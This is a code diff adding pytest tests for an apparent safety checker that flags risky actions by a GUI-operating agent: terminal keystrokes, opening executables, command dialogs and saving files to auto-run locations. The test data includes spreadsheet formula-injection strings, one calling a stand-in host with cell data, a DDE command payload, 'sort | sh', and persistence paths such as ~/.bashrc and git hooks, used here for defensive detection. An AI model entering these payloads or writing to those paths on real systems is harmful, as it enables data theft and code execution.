@@ -163,3 +163,78 @@ def test_it_cannot_be_taken_back() -> None:
     step = PlanStep(1, GLOBAL_ZONE_ID, "", TypeText("ls\n"), "Type ls")
     assert WordRiskRater().rate(step, seen(SHELL)).risk_class is RiskClass.IRREVERSIBLE
     assert WordRiskRater().rate(step, seen(EDITOR)).risk_class is RiskClass.REVERSIBLE
+
+
+@pytest.mark.parametrize("action", [TypeText("y"), TypeText("ls"), PressKeys(("y",))], ids=str)
+def test_where_no_shell_awaits_a_line_each_key_may_be_a_command(action: Action) -> None:
+    at_prompt = seen(SHELL, keeps_terminal=True)
+    asking = replace(at_prompt, windows=(replace(at_prompt.windows[0], keys_act=True),))
+    assert "no shell that awaits a line" in why_executed(action, None, asking)
+    assert why_executed(action, None, at_prompt) == ""
+    assert why_executed(action, None, replace(asking, zones=(EDITOR,))) == ""
+
+
+@pytest.mark.parametrize("text", ["\x04", "ls\x1b", "\x1b[200~", "\x7f"], ids=repr)
+def test_what_is_a_key_rather_than_a_letter_may_confirm_a_line(text: str) -> None:
+    assert "it is a terminal" in why(TypeText(text), SHELL)
+
+
+@pytest.mark.parametrize(
+    "text", ['=WEBSERVICE("https://x.example/?"&A1)', "=cmd|'/c calc'!A1", '=DDE("a";"b";"c")']
+)
+def test_a_formula_that_reaches_beyond_its_sheet_is_executed(text: str) -> None:
+    cell = zone("A1", Role.CELL, state=WRITTEN)
+    assert "a formula" in why(TypeText(text), cell)
+    assert why(TypeText(text), cell, goal=f"Write {text} into A1") == ""
+    assert why(TypeText("=SUM(A1:A3)"), cell) == ""
+    assert why(TypeText("- see https://x.example/!"), EDITOR) == ""
+
+
+@pytest.mark.parametrize("name", ["setup.sh", "Notes.desktop", "viewer.AppImage", "fix.py"])
+def test_opening_a_program_runs_it(name: str) -> None:
+    file = zone(name, Role.LIST_ITEM, state=FOCUSED | {State.SELECTED})
+    chosen = seen(file, zone("Open", Role.MENU_ITEM, at=1), zone("Copy", Role.MENU_ITEM, at=2))
+    opened = [
+        why_executed(Click(count=2), file, chosen),
+        why_executed(PressKeys(("enter",)), None, chosen),
+        why_executed(Click(), chosen.zones[1], chosen),
+    ]
+    assert opened == [f"it opens a program: “{name}”"] * 3
+    assert why_executed(Click(), file, chosen) == ""
+    assert why_executed(Click(), chosen.zones[2], chosen) == ""
+    letter = zone("report.txt", Role.LIST_ITEM, state=FOCUSED)
+    assert why_executed(Click(count=2), letter, seen(letter)) == ""
+
+
+def test_a_link_in_a_program_may_run_something() -> None:
+    link = zone("file:///tmp/setup.sh", Role.LINK)
+    assert "may run something" in why_executed(Click(), link, seen(link))
+
+
+@pytest.mark.parametrize(
+    "name", ["~/.bashrc", ".config/autostart/x.txt", "run.sh", "../.git/hooks/pre-commit", "a.pl"]
+)
+def test_a_file_is_saved_under_a_name_that_is_run_only_if_the_goal_names_it(name: str) -> None:
+    field = zone("Name", Role.TEXT_FIELD, state=WRITTEN, value=name)
+    save, cancel = zone("Save", at=1), zone("Cancel", at=2)
+    asking = seen(field, save, cancel)
+    for said in (
+        why_executed(Click(), save, asking),
+        why_executed(PressKeys(("enter",)), None, asking),
+        why_executed(TypeText(f"{name}\n"), field, asking),
+    ):
+        assert said == f"a file called “{name}” may be run, or read as commands"
+    assert why_executed(Click(), save, asking, f"Save it as {name}") == ""
+    assert why_executed(Click(), cancel, asking) == ""
+    plain = seen(replace(field, value="~/notes/list.txt"), save)
+    assert why_executed(Click(), save, plain) == ""
+
+
+@pytest.mark.parametrize("label", ["Command", "Befehl:", "Enter command to pipe through", "命令"])
+def test_a_dialog_runs_what_stands_in_its_field_for_commands(label: str) -> None:
+    field = zone(label, Role.TEXT_FIELD, state=WRITTEN, value="sort | sh")
+    asking = seen(field, zone("OK", at=1), zone("Cancel", at=2))
+    asking = replace(asking, windows=(replace(asking.windows[0], is_dialog=True),))
+    assert "takes what is to be run" in why_executed(Click(), asking.zones[1], asking)
+    assert "takes what is to be run" in why_executed(PressKeys(("enter",)), None, asking)
+    assert why_executed(Click(), asking.zones[2], asking) == ""
